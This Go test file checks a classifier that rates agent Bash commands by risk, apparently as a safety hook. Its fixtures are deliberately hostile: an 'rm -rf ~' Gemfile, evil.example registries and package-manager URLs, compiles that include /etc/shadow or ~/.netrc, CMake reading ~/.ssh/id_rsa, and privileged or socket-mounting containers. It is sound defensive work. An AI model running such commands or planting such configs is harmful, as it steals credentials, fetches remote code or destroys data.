package classify

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/gk-hook/gk-hook/classify/spec"
)

// TestLoads holds what programs load by themselves from a project: a file that
// is only data is as if it were not there.
func TestLoads(t *testing.T) {
	const cargo = ".cargo/config.toml"
	for _, tt := range []struct{ file, content, command, want string }{
		{"Gemfile", "source 'https://rubygems.org'\ngem 'rails'\n", "bundle list", "safe"},
		{"Gemfile", "gem `id`\n", "bundle list", "moderate"},
		{"luarocks/core/cfg.lua", "x = 1\n", "luarocks --version", "moderate"},
		{"PHP/CodeSniffer/autoload.php", "<?php\n", "phpcs --version", "moderate"},
		{"PHPUnit/Autoload.php", "<?php\n", "phpunit --version", "moderate"},
		{"Makefile", "x != id\n", "bmake --version", "moderate"},
		{".npmrc", "logs-dir=../x\n", "npm ls", "moderate"},
		{".npmrc", "registry=https://a.example/\n//a.example/:_authToken=${AWS_SECRET_ACCESS_KEY}\n", "npm view x", "moderate"},
		{".npmrc", "//a.example:8080/npm/:_authToken=${AWS_SECRET_ACCESS_KEY}\n", "npm ping", "moderate"},
		{".npmrc", "@a:registry=https://a.example/${AWS_SECRET_ACCESS_KEY}/\n", "npm outdated", "moderate"},
		{".npmrc", "registry=http://registry.npmjs.org/\nproxy=http://a.example\n", "npm whoami", "moderate"},
		{".npmrc", "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n//npm.pkg.github.com/:_authToken=${T}\n", "npm view x", "safe"},
		{".npmrc", "//a.example/:_authToken=${AWS_SECRET_ACCESS_KEY}\n", "yarn info x", "moderate"},
		{".yarnrc.yml", "npmRegistryServer: https://a.example\nnpmAuthToken: ${AWS_SECRET_ACCESS_KEY}\n", "yarn npm info x", "moderate"},
		{"bunfig.toml", "[install]\nregistry = {url = 'https://a.example', token = '$AWS_SECRET_ACCESS_KEY'}\n", "bun info x", "moderate"},
		{".npmrc", "//a.example/:_authToken=${NPM_TOKEN}\nsave-exact=true\n", "npm ls", "safe"},
		{".sentryclirc", "[defaults]\nurl=https://collect.example/\n", "sentry-cli releases list", "dangerous"},
		{".sentryclirc", "[defaults]\norg=acme\nproject=web\n", "sentry-cli releases list", "safe"},
		{"Gemfile", "gem `id`\n", "bundle --version", "safe"},
		{"Gemfile", "gem `id`\n", "jekyll --version", "moderate"},
		{"Gemfile", "source 'https://rubygems.org'\ngem 'jekyll'\n", "jekyll --version", "safe"},
		{"Gemfile", "gem `id`\n", "spring --help", "moderate"},
		{"ansible.cfg", "[defaults]\nfilter_plugins = ./x\n", "ansible-doc -t filter -l", "moderate"},
		{"ansible.cfg", "[defaults]\nplaybook_dir = ./x\n", "ansible-doc -t filter -l", "moderate"},
		{"ansible.cfg", "[defaults]\nforks = 5\n", "ansible-doc -t filter -l", "safe"},
		{".busted", "return {}\n", "busted --version", "moderate"},
		{".busted", "return {}\n", "busted --help", "safe"},
		{"inet.beam", "FOR1", "elixir --version", "moderate"},
		{"inet.beam", "FOR1", "mix help", "moderate"},
		{"inet.beam", "FOR1", "erl -version", "moderate"},
		{"inet.beam", "FOR1", "ghci --version", "safe"},
		{"no_dot_erlang.boot", "x", "erlc --version", "moderate"},
		{"ebin/inet.beam", "FOR1", "elixir --version", "safe"},
		{"groovy/ui/GroovyMain.class", "x", "groovy --version", "moderate"},
		{"org/codehaus/groovy/tools/FileSystemCompiler.class", "x", "groovyc --version", "moderate"},
		{"org/example/Main.class", "x", "groovy --version", "safe"},
		{"socket.lua", "os.execute('id')\n", "luarocks list", "moderate"},
		{"zlib.so", "x", "luacheck --version", "moderate"},
		{"init.lua", "return 1\n", "luarocks list", "safe"},
		{"lib/cgi/util.rb", "`id`\n", "cucumber --version", "moderate"},
		{"lib/cgi/util.rb", "`id`\n", "rspec --version", "safe"},
		{"config/spring_client.rb", "`id`\n", "spring --version", "moderate"},
		{"tasks/a.thor", "`id`\n", "thor --version", "moderate"},
		{"tasks/a.thor", "`id`\n", "rake --version", "safe"},
		{".yardopts", "-e a.rb\n", "yard --version", "moderate"},
		{".pryrc", "`id`\n", "pry --help", "moderate"},
		{".hg/hgrc", "[extensions]\nx = ./x.py\n", "go list ./...", "moderate"},
		{"typedoc.json", `{"plugin": ["./x.js"]}`, "typedoc --version", "moderate"},
		{"typedoc.json", `{"entryPoints": ["src/index.ts"]}`, "typedoc --version", "safe"},
		{".markdownlint.cjs", "module.exports = {}\n", "markdownlint-cli2 --version", "moderate"},
		{"package.json", `{"markdownlint-cli2": {"globs": ["*.md"], "fix": true}}`, "markdownlint-cli2 --version", "moderate"},
		{"package.json", `{"markdownlint-cli2": {"globs": ["*.md"]}}`, "markdownlint-cli2 --version", "safe"},
		{"package.json", `{"nyc": {"require": ["./x.js"]}}`, "nyc --version", "moderate"},
		{"package.json", `{"nyc": {"all": true}}`, "nyc --version", "safe"},
		{"ansible.cfg", "[defaults]\nvault_password_file = ./x.sh\n", "ansible-vault encrypt", "moderate"},
		{".pryrc", "`id`\n", "pry --version", "safe"},
		{".rubocop.yml", "AllCops:\n  X: <%= `id` %>\n", "rubocop --version", "moderate"},
		{".rubocop.yml", "require:\n  - ./x.rb\n", "rubocop --version", "moderate"},
		{".rubocop.yml", "require:\n  - rubocop-rails\ninherit_from: .rubocop_todo.yml\n", "rubocop --version", "safe"},
		{"Gemfile", "gem `id`\n", "cd sub && bundle list", "moderate"},
		{"Gemfile", "gem `id`\n", "cd /usr && bundle list", "safe"},
		{"Gemfile", "system('rm -rf ~')\n", "bundle list", "blocked"},
		{"gems/Gemfile", "gem `id`\n", "bundle list --gemfile gems/Gemfile", "moderate"},
		{"compose.yaml", "services: {web: {build: ., ports: ['80:80'], volumes: ['./src:/s', 'data:/d']}}\nvolumes: {data: {}}\n", "docker compose up -d",
			"moderate"},
		{"compose.yaml", "services: {web: {privileged: true}}\n", "docker compose up -d", "dangerous"},
		{"compose.yaml", "services: {web: {privileged: true}}\n", "docker compose ps", "safe"},
		{"compose.yaml", "services: {web: {privileged: true}}\n", "cd sub && docker-compose run web", "dangerous"},
		{"deploy/c.yml", "services: {web: {pid: host}}\n", "docker compose -f deploy/c.yml create", "dangerous"},
		{"docker-compose.yml", "x-a: &a {cap_add: [SYS_ADMIN]}\nservices: {web: {<<: *a}}\n", "docker compose up", "dangerous"},
		{"docker-compose.yml", "services: {web: {volumes: ['/var/run/docker.sock:/s']}}\n", "docker compose up", "dangerous"},
		{"docker-compose.yml", "services: {web: {volumes: ['/:/host']}}\n", "docker compose up", "dangerous"},
		{"kustomization.yaml", "resources: [deploy.yaml, ../base]\n", "kubectl kustomize .", "safe"},
		{"kustomization.yaml", "resources: ['https://a.example/x']\n", "kubectl kustomize .", "moderate"},
		{"overlays/a/kustomization.yml", "components: ['github.com/acme/app/x?ref=v1']\n", "kustomize build overlays/a", "moderate"},
		{cargo, "[build]\njobs = 2\n[target.x]\nlinker = 'clang'\n", "cargo tree", "safe"},
		{cargo, "[build]\nrustc-wrapper = 'x'\n", "cargo tree", "moderate"},
		{cargo, "[build]\nrustc-wrapper = 'x'\n", "cargo --version", "moderate"},
		{cargo, "[build]\nrustc-wrapper = 'x'\n", "cargo -C sub tree", "moderate"},
		{"rust-toolchain", "1.80.0\n", "rustc --version", "safe"},
		{"rust-toolchain", "[toolchain]\npath = 'x'\n", "rustc --version", "moderate"},
		{"rust-toolchain.toml", "[toolchain]\npath = 'x'\n", "cargo --version", "moderate"},
		{"rust-toolchain.toml", "[toolchain]\npath = 'x'\n", "rustup show", "moderate"},
		{"rust-toolchain.toml", "[toolchain]\nchannel = 'stable'\n", "rustup --version", "safe"},
		{"rust-toolchain.toml", "[toolchain]\npath = 'x'\n", "rust-lldb --version", "moderate"},
		{".gdbinit", "shell id\n", "rust-gdb --version", "moderate"},
		{"tsconfig.json", "{\"compilerOptions\": {\"strict\": true}}", "tsc --noEmit", "safe"},
		{"tsconfig.json", "{\"compilerOptions\": {\"incremental\": true}}", "tsc --noEmit", "moderate"},
		{"tsconfig.json", "{\"compilerOptions\": {\"incremental\": true}}", "tsc --version", "safe"},
		{"web/tsconfig.json", "{\"compilerOptions\": {\"incremental\": true}}", "tsc --noEmit -p web", "moderate"},
		{"web/tsconfig.json", "{\"extends\": \"../base.json\"}", "tsc --noEmit -p web/tsconfig.json", "moderate"},
		{".terraform/providers/registry/x", "", "terraform validate", "moderate"},
		{".terraform/providers/registry/x", "", "terraform providers schema -json", "moderate"},
		{".terraform/providers/registry/x", "", "terraform fmt -check", "safe"},
		{"infra/.terraform/providers/registry/x", "", "terraform -chdir=infra graph", "moderate"},
		{"pyproject.toml", "[project]\nname = 'x'\n", "uv tree", "moderate"},
		{"pyproject.toml", "[project]\nname = 'x'\n", "uv tree --frozen", "safe"},
		{"vendor/composer/installed.json", "[{\"type\": \"composer-plugin\"}]", "composer --version", "moderate"},
		{"vendor/composer/installed.json", "[{\"type\": \"library\"}]", "composer show", "safe"},
		{"package.json", "{\"scripts\": {\"prepare\": \"node x.js\"}}", "npm diff", "moderate"},
		{"conftest.py", "import os\n", "pytest --help", "moderate"},
		{".yarnrc.yml", "nodeLinker: node-modules\n", "yarn why x", "safe"},
		{".yarnrc.yml", "yarnPath: ./x.cjs\n", "yarn --version", "moderate"},
		{"site.yml", "- hosts: all\n  tasks: [{debug: {msg: x}}]\n", "ansible-playbook --syntax-check site.yml", "safe"},
		{"site.yml", "- hosts: \"\\x7b{ q ('pipe', 'id') }}\"\n", "ansible-playbook --syntax-check site.yml", "moderate"},
		{"site.yml", "- hosts: \"{{ lookup('pipe', 'id') }}\"\n", "ansible-playbook --syntax-check site.yml", "moderate"},
		{"site.yml", "- hosts: all\n  roles: [web]\n", "ansible-playbook --list-tasks site.yml", "moderate"},
		{"package.json", "{\"packageManager\": \"yarn@4.1.0+sha512.ab\"}", "yarn --version", "safe"},
		{"package.json", "{\"packageManager\": \"yarn@https://evil.example/y.js\"}", "yarn --version", "moderate"},
		{"package.json", "{\"packageManager\": \"pnpm@https://evil.example/p.tgz\"}", "pnpm list", "moderate"},
		{".corepack.env", "COREPACK_ENABLE_STRICT=0\n", "yarn why x", "safe"},
		{".corepack.env", "COREPACK_NPM_REGISTRY=https://evil.example\n", "pnpm --version", "moderate"},
		{".npmrc", "registry=https://registry.npmjs.org/\n", "pnpm --version", "safe"},
		{".npmrc", "registry=https://registry.npmjs.org.evil.example/\n", "pnpm --version", "moderate"},
		{".npmrc", "@pnpm:registry=https://evil.example\n", "pnpm list", "moderate"},
		{".npmrc", "registry=https://evil.example\n", "npm --version", "safe"},
		{"pnpm-workspace.yaml", "registry: https://evil.example\n", "pnpm --version", "moderate"},
		{"node_modules/jest/bin/jest.js", "", "jest --version", "moderate"},
		{"node_modules/jest-junit/index.js", "", "jest --version", "safe"},
		{"node_modules/webpack-cli/bin/cli.js", "", "webpack --version", "moderate"},
		{"node_modules/webpack-cli/bin/cli.js", "", "vite --version", "safe"},
		{"node_modules/lerna/dist/cli.js", "", "lerna ls", "moderate"},
		{"node_modules/@angular/cli/lib/cli/index.js", "", "ng version", "moderate"},
		{"node_modules/nx/bin/nx.js", "", "nx show projects", "moderate"},
		{"node_modules/nx/bin/nx.js", "", "nx --version", "safe"},
		{"node_modules/@turbo/linux-64/bin/turbo", "", "turbo --version", "moderate"},
		{"node_modules/grunt/lib/grunt.js", "", "grunt --version", "moderate"},
		{".gulp.cjs", "module.exports = {}\n", "gulp --version", "moderate"},
		{"node_modules/typescript/lib/typescript.js", "", "ts-node -vv", "moderate"},
		{"node_modules/typescript/lib/typescript.js", "", "ts-node -v", "safe"},
		{"artisan", "<?php require __DIR__.'/vendor/autoload.php';\n", "php artisan --version", "moderate"},
		{"project.clj", "(defproject a \"1\")\n", "lein --version", "moderate"},
		{"project.clj.txt", "", "lein --version", "safe"},
		{"a.txt", "", "husky --version", "moderate"},
		{".pnpmfile.cjs", "module.exports = {}\n", "pnpm list", "moderate"},
		{".pnpmfile.cjs", "module.exports = {}\n", "pnpm --version", "moderate"},
		{".hg/hgrc", "[paths]\ndefault = https://example.org/x\n[ui]\nusername = a\n", "hg status", "safe"},
		{".hg/hgrc", "[extensions]\nx = ./x.py\n", "hg status", "moderate"},
		{".hg/hgrc", "[alias]\nlog = !touch x\n", "cd sub && hg log", "moderate"},
		{".hg/hgrc", "%include ../x\n", "hg log", "moderate"},
		{"sub/.hg/hgrc", "[extensions]\nx = ./x.py\n", "hg log sub/x", "moderate"},
		{"composer.json", `{"config": {"vendor-dir": "lib"}}`, "composer show", "moderate"},
		{"composer.json", `{"config": {"vendor-dir": "vendor"}}`, "composer show", "safe"},
		{"vendor/composer/installed.json", `{"packages": [{"type": "composer\u002dplugin"}]}`, "composer show", "moderate"},
		{"vendor/composer/installed.json", `{"packages": [{"type": "library", "description": "composer-plugin"}]}`, "composer show", "safe"},
		{".rubocop.yml", "\"\\x72equire\": ./x.rb\n", "rubocop -V", "moderate"},
		{"x.html", "<p>hi</p>", "pandoc x.html", "safe"},
		{"x.html", "<IFRAME src=\"https://a.example/\">", "pandoc x.html", "moderate"},
		{"x.1", ".TH x 1\n. so /etc/shadow\n", "man ./x.1", "moderate"},
		{"x.1", ".TH x 1\nmakes a copy so that\n", "man ./x.1", "safe"},
		{"group_vars/all.yml", "", "ansible-inventory --playbook-dir sub --list", "moderate"},
		{".hg/hgrc", "[hooks]\npre-status = touch x\n", "hg --cwd .. status -R project", "moderate"},
		{".hg/sharedpath", "../other\n", "hg status", "moderate"},
		{".jj/repo/config.toml", "[user]\nname = 'a'\n", "jj log", "safe"},
		{".jj/repo/config.toml", "[ui]\npager = 'x'\n", "jj log", "moderate"},
		{"other", "", "pnpm list", "safe"},
		{"re.py", "x = 1\n", "python3 -m json.tool base.json", "moderate"},
		{"re.py", "x = 1\n", "python3 -I -m json.tool base.json", "safe"},
		{"app.py", "x = 1\n", "python3 -m json.tool base.json", "safe"},
		{"pip/__init__.py", "", "python3 -m pip list", "moderate"},
		{"click/__init__.py", "", "python3 -m black --version", "moderate"},
		{"pip/empty", "", "python3 -m pip list", "safe"},
		{"app.py", "import os\n", "python3 -m inspect app", "moderate"},
		{"composer.json", "{\"scripts\": {\"test\": \"x\"}}", "composer why x", "safe"},
		{"composer.json", "{\"scripts\": {\"pre-command-run\": \"x\"}}", "composer why x", "moderate"},
		{"pyproject.toml", "[tool.ruff]\nline-length = 100\n", "ruff check .", "safe"},
		{"pyproject.toml", "[tool.ruff]\nfix = true\n", "ruff check .", "moderate"},
		{"pyproject.toml", "[tool.ruff]\nfix = true\n", "ruff check --no-fix .", "safe"},
		{"sub/ruff.toml", "extend = '../fix.toml'\n", "ruff check sub", "moderate"},
		{"pyproject.toml", "[tool.ruff]\nextend = 'fix.toml'\n", "ruff check .", "moderate"},
		{".venv/bin/python", "#!/bin/sh\n", "uv pip list", "moderate"},
		{".venv/pyvenv.cfg", "home = /usr/bin\n", "uv pip list", "safe"},
		{".mvn/jvm.config", "-Xmx1g\n", "mvn --version", "safe"},
		{".mvn/jvm.config", "-Xmx1g -javaagent:x.jar\n", "mvn --version", "moderate"},
		{"tools/bazel", "#!/bin/sh\n", "bazel version", "moderate"},
		{"Brewfile", "brew 'jq'\n", "brew bundle list", "safe"},
		{"Brewfile", "brew 'jq' if system('id')\n", "brew bundle list", "moderate"},
		{"mix.exs", "", "mix help", "moderate"},
		{"mix.exs", "", "mix --version", "safe"},
		{"Taskfile.yml", "tasks: {x: {cmds: [ls]}}\n", "task --list", "safe"},
		{"Taskfile.yml", "vars: {x: {sh: ls}}\n", "task --list", "moderate"},
		{"justfile", "x := `ls`\n", "just --list", "safe"},
		{"justfile", "x := `ls`\n", "just --evaluate", "moderate"},
		{"noxfile.py", "import nox\n", "nox -l", "moderate"},
		{"noxfile.py", "import nox\n", "tox --version", "safe"},
		{"toxfile.py", "import tox\n", "tox -l", "moderate"},
		{"tasks.py", "import os\n", "invoke -l", "moderate"},
		{"other", "", "pip install --dry-run x", "moderate"},
		{"other", "", "uv pip compile requirements.in", "moderate"},
		{"other", "", "pytest --fixtures", "moderate"},
		{"other", "", "cd \"$DIR\" && cargo tree", "moderate"},
		{"other", "", "printf 'yarnPath: x\\n' > .yarnrc.yml; yarn --version", "moderate"},
	} {
		dir := t.TempDir()
		for name, text := range map[string]string{tt.file: tt.content, "sub/empty": "", "fix.toml": "fix = true\n",
			"base.json": "{\"compilerOptions\": {\"composite\": true}}"} {
			file := filepath.Join(dir, "project", name)
			if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
				t.Fatal(err)
			}
		}
		a := Assess(Call{Tool: "Bash", Input: map[string]any{"command": tt.command}, Cwd: dir + "/project", Home: dir + "/home"})
		if got := a.Tier.String(); got != tt.want {
			t.Errorf("%s with %s %q: %s, want %s: %s", tt.command, tt.file, tt.content, got, tt.want, strings.TrimSpace(because(a)))
		}
	}
}

// TestCompiledInput checks source that is compiled from standard input: what it includes is printed.
func TestCompiledInput(t *testing.T) {
	home, project := kept(t)
	for command, want := range map[string]string{
		"gcc -E - <<< '#include \"/etc/shadow\"'":                 "moderate unseen",
		"echo '#include <~/.netrc>' | cpp":                        "moderate unseen",
		"echo '.incbin \"/home/u/.netrc\"' | as -o /dev/null":     "moderate unseen",
		"sed s/Q/include/ x | gcc -xc -c -":                       "moderate unseen",
		"echo | gcc -dM -E -":                                     "moderate",
		"printf '#include <stdio.h>\nint main() {}' | gcc -x c -": "moderate",
		"gcc -c src/sum.c < /dev/null":                            "moderate",
	} {
		if a := assessBash(command, home, project); judgement(a) != want {
			t.Errorf("%s: %s, want %s: %s", command, judgement(a), want, because(a))
		}
	}
}

// TestLoadedCredentials checks that a description of a build which names a file of credentials is not
// taken for one that only builds.
func TestLoadedCredentials(t *testing.T) {
	home, project := kept(t)
	for text, want := range map[string]bool{
		"file(READ ~/.ssh/id_rsa X)\nmessage(${X})\n":             true,
		"file(READ /etc/shadow X)\n":                              true,
		"file(READ data/names.txt X)\nset(P /usr/share/dict)\n":   false,
		"project(x)\nadd_executable(x x.c) # see https://a.b/c\n": false,
	} {
		command := "cat > CMakeLists.txt <<'E'\n" + text + "E\ncmake -B build"
		if a := assessBash(command, home, project); a.RunsOwnFiles() != want {
			t.Errorf("%s: runs its own files %v, want %v: %s", command, a.RunsOwnFiles(), want, because(a))
		}
	}
}

// TestGivenByFiles checks what files of services and builds give a container of the machine.
func TestGivenByFiles(t *testing.T) {
	const up = "docker compose up -d"
	service := func(settings string) string { return "services: {web: {image: alpine, " + settings + "}}\n" }
	for _, tt := range []struct {
		file, text, command string
		want                string // the ID of an effect, empty for none but that of starting the services
	}{
		{"compose.yaml", service("volumes: [./src:/s, 'data:/d:ro'], env_file: ./dev/app.env, build: {context: ./web, dockerfile: dev/Dockerfile}"), up, ""},
		{"compose.yaml", service("build: {context: ., additional_contexts: {base: 'docker-image://alpine:3'}}"), up, ""},
		{"compose.yaml", service("volumes: ['./../../.ssh:/k']"), up, "compose.outside"},
		{"compose.yaml", service("volumes: [{type: bind, source: src/../../x, target: /k}]"), up, "compose.outside"},
		{"compose.yaml", service("env_file: [{path: ./../x}]"), up, "compose.outside"},
		{"compose.yaml", service("label_file: /etc/shadow"), up, "compose.outside"},
		{"compose.yaml", service("build: {context: ., dockerfile: ~/Dockerfile}"), up, "compose.outside"},
		{"compose.yaml", service("build: {context: ., additional_contexts: ['k=../k']}"), up, "compose.outside"},
		{"compose.yaml", service("build: {context: ., cache_to: ['type=local,dest=/srv/x']}"), up, "compose.outside"},
		{"compose.yaml", service("build: {context: 'https://a.example/x.git'}"), up, "compose.outside"},
		{"compose.yaml", service("develop: {watch: [{action: sync, path: ../x, target: /x}]}"), up, "compose.outside"},
		{"compose.yaml", "include: ['https://a.example/x.git']\n", up, "compose.outside"},
		{"compose.yaml", service("logging: {driver: syslog, options: {syslog-address: 'tcp://a.example:1'}}"), up, spec.DataSent},
		{"compose.yaml", service("logging: {options: {max-size: 10m}}"), up, ""},
		{"compose.yaml", service("runtime: /srv/shim"), up, "docker.privileged"},
		{"compose.yaml", service("post_start: [{command: id, privileged: true}]"), up, "docker.privileged"},
		{".env", "COMPOSE_FILE=other.yml\n", up, spec.ScriptElsewhere},
		{".env", "TAG=2\n", up, ""},
		{"other.yml", service("privileged: true"), "docker compose -f - up < other.yml", "docker.privileged"},
		{"other.yml", "", "docker compose -f - up <<< 'services: {web: {pid: host}}'", "docker.privileged"},
		{"other.yml", "", "docker compose -f - up <<< 'services: {web: {image: alpine}}'", ""},
		{"other.yml", "", "docker compose --project-directory .. up", spec.ScriptElsewhere},
		{"docker-bake.hcl", "target \"x\" {\n  context = \"web\"\n  output = [\"type=local,dest=out\"]\n}\n", "docker buildx bake", ""},
		{"docker-bake.hcl", "target \"x\" {\n  output = [\"type=local,dest=/srv\"]\n}\n", "docker buildx bake", "compose.outside"},
		{"other.hcl", "target \"x\" {\n  secret = [\"id=a\"]\n}\n", "docker buildx bake -f other.hcl", "compose.outside"},
		{"compose.yaml", service("build: {context: ../x}"), "docker buildx bake web", "compose.outside"},
		{"cfg/config.json", `{"cliPluginsExtraDirs": ["/tmp/x"]}`, "docker --config cfg info", spec.ScriptElsewhere},
		{"cfg/config.json", `{"auths": {}}`, "docker --config cfg info", ""},
	} {
		dir := t.TempDir()
		file := filepath.Join(dir, "project", tt.file)
		if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(tt.text), 0o600); err != nil {
			t.Fatal(err)
		}
		a := Assess(Call{Tool: "Bash", Input: map[string]any{"command": tt.command}, Cwd: dir + "/project", Home: dir + "/home"})
		found := slices.ContainsFunc(a.Effects, func(e Effect) bool {
			if tt.want == "" {
				return e.ID == "compose.outside" || e.ID == "docker.privileged" || e.ID == spec.DataSent || e.ID == spec.ScriptElsewhere
			}
			return e.ID == tt.want
		})
		if found != (tt.want != "") {
			t.Errorf("%s with %s %q: want %q: %s", tt.command, tt.file, tt.text, tt.want, strings.TrimSpace(because(a)))
		}
	}
}
